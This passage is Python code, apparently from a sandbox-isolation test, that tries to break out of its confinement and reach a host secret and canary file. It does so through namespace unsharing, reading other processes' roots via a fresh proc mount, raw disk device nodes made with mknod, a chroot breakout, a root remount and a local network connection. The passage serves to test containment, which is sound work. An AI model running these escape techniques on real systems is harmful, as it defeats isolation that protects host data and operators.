# Root of namespaces of its own, where there is a kernel that makes them; then every way to the host that root has. What the
# host does not show of itself says nothing: its secret in the output, its canary and its listeners do.
won, ways = [], []

def read(path):
    with open(path, "rb") as file: sys.stdout.write(file.read(4096).decode("latin-1") + "\n")

def way(name, act):
    try: act(); ways.append(name)
    except OSError as error: ways.append("%s (%s)" % (name, refused(error)))

def mount(kind, at):
    os.makedirs(at, exist_ok=True)
    if libc.mount(b"none", at.encode(), kind, 0, None) != 0: raise OSError(ctypes.get_errno(), "mount")

def by_process():
    mount(b"proc", "/tmp/p")
    for name in os.listdir("/tmp/p"):
        if name.isdigit():
            try: read("/tmp/p/%s/root%s" % (name, host("secret")))
            except OSError: pass

def by_disk():
    for major, minor in ((8, 0), (254, 0), (253, 0), (259, 0)):
        path = "/tmp/disk-%d" % major
        try: os.mknod(path, 0o60600, os.makedev(major, minor)); piece = os.read(os.open(path, os.O_RDONLY), 512)
        except OSError as error: last = error; continue
        if piece: escaped("a disk of number %d can be read" % major)
    raise last

def by_root():
    os.makedirs("/tmp/c", exist_ok=True)
    out = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/c"); os.fchdir(out)
    for _ in range(64): os.chdir("..")
    os.chroot("."); os.chdir("/")
    read(host("secret"))

def by_remount():
    if libc.mount(b"none", b"/", None, 0x1020, None) != 0: raise OSError(ctypes.get_errno(), "mount")
    path = "/usr/bin/" + NONCE
    open(path, "w").close(); os.unlink(path)
    escaped("a file could be made in /usr/bin")

def by_network():
    client = socket.socket(); client.settimeout(1)
    client.connect(("127.0.0.1", int(os.environ["ESCAPE_TCP"]))); client.send(NONCE.encode())

way("by its path", lambda: read(host("secret")))
# A control is root of namespaces already, and goes no further.
if CONTROL: held("root outside of a box")
uid, gid = os.getuid(), os.getgid()
for name, flag in (("user", NEWUSER), ("mount", NEWNS), ("process", NEWPID), ("ipc", NEWIPC), ("name", NEWUTS)):
    if libc.unshare(flag) == 0:
        won.append(name)
        for file, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid), ("gid_map", "0 %d 1" % gid)) if flag == NEWUSER else ():
            way(file, lambda: open("/proc/self/" + file, "w").write(text))
way("by its path, as root", lambda: read(host("secret")))
way("by writing", lambda: os.truncate(host("canary"), 0))
for name, act in (("by a process", by_process), ("by a disk", by_disk), ("by a remount", by_remount), ("by the network", by_network), ("by the root", by_root)): way(name, act)
held("namespaces of its own: %s; tried %s" % (", ".join(won) or "none", ", ".join(ways)))
